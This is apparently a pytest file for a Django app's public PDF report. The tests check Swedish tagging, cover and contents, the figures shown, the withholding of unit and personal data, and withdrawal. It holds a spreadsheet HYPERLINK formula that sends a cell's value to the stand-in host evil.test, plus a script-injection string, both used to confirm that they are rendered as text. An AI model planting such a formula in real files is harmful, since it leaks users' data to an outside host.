"""The public version of the organisation report as a PDF: anyone with the address downloads
it, it is tagged and in Swedish, it holds every figure of the public page and nothing below the
organisation, and it is drawn from the frozen figures only."""

import html
import re
import statistics

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.dateformat import format as date_format

from digiplan.assessments.models import Answer, ResultFigures
from digiplan.organisations.models import Organisation, OrganisationType
from digiplan.reports import public, selectors
from digiplan.reports.models import PublicReport
from tests.pdf_helpers import _objects, flat, pdf_text
from tests.reports.report_helpers import YEAR_2, build_years
from tests.reports.test_public import (
    ANSWERS,
    COMMENT,
    FOUR,
    GOAL_TITLE,
    NASTY,
    _publish,
    _swedish,
    _unit_mean,
    build_org,
)

FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"Klicka")'


@pytest.fixture
def org(world):
    return build_org(world)


def _download(client, report):
    return client.get(reverse("public_report_pdf", args=[report.token]))


def _text(response) -> str:
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF-")
    return flat(pdf_text(response.content))


def _catalog(content: bytes) -> bytes:
    return next(head for head, _data in _objects(content).values() if b"/Type /Catalog" in head)


def _page_figures(page: str) -> list[str]:
    """What the public page shows as figures and their labels: every definition, table cell,
    row header and chart title, as text (the screen-reader-only words of a withheld figure and
    the SVG drawings left out). Column headers are not figures: a trend's chart table says
    "Area" where the page's own table of it says "Group"."""
    page = re.sub(r"<svg.*?</svg>", "", page, flags=re.S)
    page = re.sub(r'<span class="visually-hidden">.*?</span>', "", page, flags=re.S)
    article = page[page.index('<article class="report public-report">') : page.index("</article>")]
    found = []
    for tag in ("dd", "td", 'th scope="row"', "figcaption"):
        name = tag.split()[0]
        for cell in re.findall(rf"<{tag}[^>]*>(.*?)</{name}>", article, flags=re.S):
            text = re.sub(r"\s+", " ", html.unescape(re.sub(r"<[^>]+>", "", cell))).strip()
            if text:
                found.append(text)
    return found


# ---- What the PDF holds --------------------------------------------------------------------


def test_the_pdf_is_tagged_swedish_with_cover_contents_and_page_numbers(world, org, client_for):
    report = _publish(world, title="Uppföljning för fullmäktige")
    response = _download(client_for("anonymous"), report)
    text = _text(response)
    catalog = _catalog(response.content)
    assert b"/StructTreeRoot" in catalog and b"/Lang (sv)" in catalog, "tagged, in Swedish"
    # The cover: title, huvudman, school year and the day it was published, in Swedish.
    cover = text[:300]
    assert text.startswith("Uppföljning för fullmäktige")
    assert "Sjöviks kommun" in cover and "2026/27" in cover and "Publicerad" in cover
    with translation.override("sv"):
        assert date_format(timezone.localdate(report.published_at), "j F Y") in cover
    # The contents with page numbers (dot leaders, then the number), and the sections.
    assert re.search(r"\. \. \. (\d+)", text)
    for heading in (
        "Innehåll",
        "Sammanfattning",
        "Deltagande",
        "Resultat per område",
        "Planernas genomförande",
        "Nationella delmål",
    ):
        assert heading in text, heading
    assert re.search(r"Sida 2 av \d+", text)


def test_the_pdf_holds_every_figure_the_public_page_shows(world, org, client_for):
    client = client_for("anonymous")
    report = _publish(world)
    page = client.get(reverse("public_report", args=[report.token])).content.decode()
    text = _text(_download(client, report))
    figures = _page_figures(page)
    assert len(figures) >= 25
    for figure in figures:
        assert figure in text, figure


def test_the_pdf_holds_the_organisation_figures_computed_from_the_answers(world, org, client_for):
    text = _text(_download(client_for("anonymous"), _publish(world)))
    led_median = statistics.median(org.led.values())
    komp_median = statistics.median(org.komp.values())
    assert _swedish(led_median) in text and _swedish(komp_median) in text
    # The medians chart, followed by its data table, then the table of the areas.
    chart = "Personal: organisationens median per område"
    assert chart in text and text.index(chart) < text.index("Median och mittersta hälften")
    # Plan progress: three of the huvudman's active units published a plan with one goal and
    # three activities: one done, one late (due in 2020) and one cancelled.
    units = Organisation.objects.filter(
        huvudman=world.huvudman, is_active=True, type=OrganisationType.SKOLENHET
    ).count()
    assert re.search(
        rf"Enheter med publicerad plan 3 av {units} Mål 3 Aktiviteter 9 Klar 3 "
        r"Försenade vid publiceringen 3 Inställd 3",
        text,
    )
    staff = sum(len(ANSWERS[name][0]) for name in FOUR)
    assert re.search(rf"Personal som svarat {staff}\b", text)


def test_no_unit_name_unit_figure_comment_or_person_is_in_the_pdf(world, org, client_for):
    text = _text(_download(client_for("anonymous"), _publish(world)))
    names = [*org.units, world.unit_a.name, world.unit_b.name, world.omrade.name, world.forvaltning.name]
    people = [world.strategist.name, world.leader_a.name, world.staff.name]
    for word in [*names, *people, COMMENT, GOAL_TITLE, "Studiecirkel", "Workshop", "Plan för"]:
        assert word not in text, word
    for mean in [*org.led.values(), *org.komp.values()]:
        assert _swedish(mean) not in text, mean


def test_fewer_than_three_units_show_no_figure_and_say_why(world, client_for):
    build_org(world, names=("Solrosskolan", "Tulpanskolan"), plans=2)
    text = _text(_download(client_for("anonymous"), _publish(world)))
    assert "färre än 3 enheter" in text
    assert "Solrosskolan" not in text and "Tulpanskolan" not in text
    for name in ("Solrosskolan", "Tulpanskolan"):
        for mean in (_unit_mean(ANSWERS[name][0]), _unit_mean(ANSWERS[name][1])):
            assert _swedish(mean) not in text, (name, mean)


def test_trends_are_charts_each_followed_by_its_data_table(world, client_for):
    years = build_years(world)
    client = client_for("anonymous")
    report = _publish(world, year=YEAR_2)
    page = client.get(reverse("public_report", args=[report.token])).content.decode()
    text = _text(_download(client, report))
    titles = [t for t in _page_figures(page) if "organisationens median över åren" in t]
    assert len(titles) >= 2
    for title in titles:
        assert title in text, title
    for figure in _page_figures(page):
        assert figure in text, figure
    for unit in (world.unit_a, world.unit_b, years.skola_1, years.skola_2, years.small):
        assert unit.name not in text
    assert "<script>alert(1)</script>" not in text


def test_the_pdf_is_drawn_from_the_frozen_figures_only(world, org, client_for, monkeypatch):
    report = _publish(world)
    stored = report.data

    def live(*args, **kwargs):
        raise AssertionError("the public PDF read live figures")

    monkeypatch.setattr(selectors, "org_report", live)
    monkeypatch.setattr(public, "public_data", live)
    Answer.objects.update(value=1)
    ResultFigures.objects.all().delete()
    text = _text(_download(client_for("anonymous"), report))
    assert _swedish(statistics.median(org.led.values())) in text
    report.refresh_from_db()
    assert report.data == stored and "label" not in report.data["areas"][0]


def test_a_year_with_no_campaign_still_gives_a_pdf_that_says_what_is_missing(world, client_for):
    report = _publish(world, year="2019/20")
    text = _text(_download(client_for("anonymous"), report))
    assert "Det genomfördes ingen skattning läsåret 2019/20" in text
    assert "Nationella delmål" in text


# ---- The address ---------------------------------------------------------------------------


@pytest.mark.parametrize("persona", ["anonymous", "leader_b", "other_strategist"])
def test_anyone_with_the_address_downloads_it_as_an_attachment(world, org, client_for, persona):
    report = _publish(world)
    response = _download(client_for(persona), report)
    assert response.status_code == 200
    assert re.fullmatch(
        r'attachment; filename="[a-z-]+-sjoviks-kommun-2026-27\.pdf"', response["Content-Disposition"]
    )
    assert response["X-Robots-Tag"] == "noindex, nofollow"


def test_a_withdrawn_report_is_not_found(world, org, client_for):
    report = _publish(world)
    public.public_report_withdraw(actor=world.strategist, report=report)
    assert _download(client_for("anonymous"), report).status_code == 404
    assert _download(client_for("strategist"), report).status_code == 404


def test_an_unknown_address_is_not_found(world, client_for):
    response = client_for("anonymous").get(reverse("public_report_pdf", args=["inte-en-token"]))
    assert response.status_code == 404


def test_the_public_page_links_to_the_pdf(world, org, client_for):
    report = _publish(world)
    page = client_for("anonymous").get(reverse("public_report", args=[report.token]))
    link = f'<a href="{reverse("public_report_pdf", args=[report.token])}">Ladda ner som PDF</a>'
    assert link in page.content.decode()
    assert reverse("public_report_pdf", args=[report.token]) == (f"/offentlig/{report.token}/rapport.pdf")


def test_a_title_and_huvudman_with_markup_or_a_formula_show_as_text(world, org, client_for):
    world.huvudman.name = FORMULA
    world.huvudman.save(update_fields=["name"])
    report = _publish(world, title=NASTY)
    response = _download(client_for("anonymous"), report)
    text = _text(response)
    assert text.startswith(NASTY), "the title as written, not read as markup"
    assert FORMULA in text
    name = response["Content-Disposition"].removeprefix('attachment; filename="')
    assert re.fullmatch(r'[a-z0-9-]+\.pdf"', name), name
    assert PublicReport.objects.get().title == NASTY


def test_the_file_is_made_once_a_day_and_a_withdrawal_still_ends_it(world, org, client_for, monkeypatch):
    from digiplan.reports import public_pdf

    report = _publish(world)
    made = []
    render = public_pdf.public_pdf
    monkeypatch.setattr(public_pdf, "public_pdf", lambda r: made.append(r.pk) or render(r))
    first = _download(client_for("anonymous"), report)
    again = _download(client_for("leader_b"), report)
    assert made == [report.pk] and again.content == first.content
    with translation.override("en"):
        english = client_for("anonymous").get(
            reverse("public_report_pdf", args=[report.token]), HTTP_ACCEPT_LANGUAGE="en"
        )
    assert english.status_code == 200
    public.public_report_withdraw(actor=world.strategist, report=report)
    assert _download(client_for("anonymous"), report).status_code == 404


def test_the_dash_means_too_few_units_in_the_public_pdf(world, org, client_for):
    text = _text(_download(client_for("anonymous"), _publish(world)))
    assert "Ett streck (–) betyder att värdet skulle bygga på färre än 3 enheter" in text
    assert "färre än 5 svar" not in text


def test_a_published_part_of_the_organisation_is_named_on_the_cover(world, org, client_for):
    report = public.public_report_publish(
        actor=world.strategist,
        huvudman=world.huvudman,
        school_year=YEAR_2,
        units=Organisation.objects.filter(huvudman=world.huvudman, type=OrganisationType.SKOLENHET),
        title="Uppföljning för Norr",
        scope="Område Norr",
    )
    text = _text(_download(client_for("anonymous"), report))
    assert "Urval: Område Norr" in text
    assert "Den omfattar bara enheterna i den här delen av organisationen: Område Norr." in text
